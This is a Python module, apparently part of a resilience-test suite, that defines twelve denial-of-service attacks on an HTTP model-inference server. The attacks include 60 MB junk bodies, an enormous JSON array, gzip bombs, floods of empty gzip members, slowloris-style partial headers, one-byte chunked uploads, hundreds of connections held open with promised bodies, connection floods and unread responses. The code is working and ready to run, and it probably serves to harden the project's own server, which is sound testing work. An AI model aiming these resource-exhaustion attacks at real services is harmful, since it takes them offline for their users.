"""Bodies that are refused, never come, or cost far more than their sender."""

import contextlib
import gzip
import time
from functools import cache

from attacks.attacker import Attack, Pace, Ports, ask, connected, get, post

_BIG = 60 << 20
_FREE = "/v2/models/free/infer"  # takes a tensor of any length
_FAST = "/v2/models/fast/infer"
_RAW = b"Inference-Header-Content-Length: 0\r\n"
_GZIP = b"Content-Encoding: gzip\r\n"
_FORM = b"Content-Type: multipart/form-data; boundary=xx\r\n"


@cache
def _zeros() -> bytes:
    return bytes(_BIG)


def refused_pictures(ports: Ports, pace: Pace) -> None:
    with connected(ports.http) as client:
        for _ in range(5):
            ask(client, post("/classify", _BIG), _zeros(), pace)


def bad_json(ports: Ports, pace: Pace) -> None:
    with connected(ports.http) as client:
        for _ in range(5):
            ask(client, post(_FREE, _BIG), _zeros(), pace)


@cache
def _numbers() -> bytes:
    data = b",".join([b"[0]"] * 15_000_000)
    return b'{"inputs":[{"name":"x","datatype":"UINT8","shape":[1,9],"data":[' + data + b"]}]}"


def json_of_numbers(ports: Ports, pace: Pace) -> None:
    body = _numbers()
    with connected(ports.http) as client:
        ask(client, post(_FREE, len(body)), body, pace)


def wrong_size(ports: Ports, pace: Pace) -> None:
    with connected(ports.http) as client:
        for _ in range(5):
            ask(client, post(_FAST, _BIG, _RAW), _zeros(), pace)


@cache
def _members() -> bytes:
    return gzip.compress(b"") * 200_000


def gzip_members(ports: Ports, pace: Pace) -> None:
    """Whose sender leaves at once: the work goes on without it, or does not."""
    body = _members()
    for _ in range(4):
        with connected(ports.http) as client:
            client.sendall(post(_FREE, len(body), _GZIP) + body)
            pace.rest()


@cache
def _bomb() -> bytes:
    return gzip.compress(bytes(63 << 20), 9)


def gzip_bombs(ports: Ports, pace: Pace) -> None:
    body = post(_FREE, len(_bomb()), _GZIP) + _bomb()
    with contextlib.ExitStack() as held:
        for _ in range(16):
            held.enter_context(connected(ports.http)).sendall(body)
            pace.rest()
        time.sleep(0.5)


def announced_bodies(ports: Ports, pace: Pace) -> None:
    """A head and one byte on each of many connections, held as long as they let us."""
    with contextlib.ExitStack() as held:
        clients = []
        for number in range(300):
            clients.append(held.enter_context(connected(ports.http)))
            path = (_FREE, "/classify", _FAST)[number % 3]
            clients[-1].sendall(post(path, 60_000_000 // (1 + number % 40), _RAW) + b"\0")
            pace.rest()
        for _ in range(4):
            time.sleep(0.5)
            for client in clients:
                with contextlib.suppress(OSError):
                    client.send(b"\0")


def one_byte_chunks(ports: Ports, pace: Pace) -> None:
    head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n%b\r\n" % (
        _FREE.encode(),
        _RAW,
    )
    piece = b"1\r\nA\r\n" * 10_000
    with connected(ports.http) as client:
        client.sendall(head)
        for _ in range(100):
            client.sendall(piece)
            pace.rest()


def spaces_after_boundary(ports: Ports, pace: Pace) -> None:
    body = b"--xx" + b" " * (20 << 20)
    with connected(ports.http) as client:
        ask(client, post("/classify", len(body), _FORM), body, pace)


def slow_heads(ports: Ports, pace: Pace) -> None:
    with contextlib.ExitStack() as held:
        for _ in range(500):
            held.enter_context(connected(ports.http)).sendall(b"GET /v2 HTTP/1.1\r\nHo")
            pace.rest()
        time.sleep(1.0)


def connection_flood(ports: Ports, pace: Pace) -> None:
    for _ in range(200):
        with connected(ports.http):
            pass
        pace.rest()


def unread_answers(ports: Ports, pace: Pace) -> None:
    """Ask for much on many connections, and read nothing."""
    with contextlib.ExitStack() as held:
        for _ in range(100):
            client = held.enter_context(connected(ports.http))
            client.settimeout(0.05)
            with contextlib.suppress(OSError):
                client.sendall(get("/openapi.json") * 200)
            pace.rest()


ATTACKS = {
    "60 MB that are no picture": Attack(refused_pictures, _zeros),
    "60 MB of bad JSON": Attack(bad_json, _zeros),
    "60 MB of JSON lists": Attack(json_of_numbers, _numbers),
    "60 MB for a model of 64 bytes": Attack(wrong_size, _zeros),
    "announced bodies": Attack(announced_bodies),
    "gzip of empty members": Attack(gzip_members, _members),
    "gzip bombs": Attack(gzip_bombs, _bomb),
    "one-byte chunks": Attack(one_byte_chunks),
    "spaces after a boundary": Attack(spaces_after_boundary),
    "slow heads": Attack(slow_heads),
    "connection flood": Attack(connection_flood),
    "unread answers": Attack(unread_answers),
}
